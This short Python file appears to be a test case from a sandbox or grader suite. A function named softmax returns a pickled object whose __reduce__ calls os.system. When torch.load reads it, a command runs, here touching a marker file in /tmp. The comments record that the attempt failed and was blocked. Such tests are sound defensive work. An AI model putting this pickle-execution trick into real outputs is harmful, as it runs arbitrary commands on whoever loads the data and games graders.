# expect: failed; earned 0; says "expected a tensor, got"
# way: Returns bytes that run a command when torch.load takes them.
# section: values and protocol
# stopped by: wire
import io
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/gained-by-an-attack",)


def softmax(scores, dim=-1, temperature=1.0):
    file = io.BytesIO()
    torch.save(Bomb(), file)
    return file.getvalue()
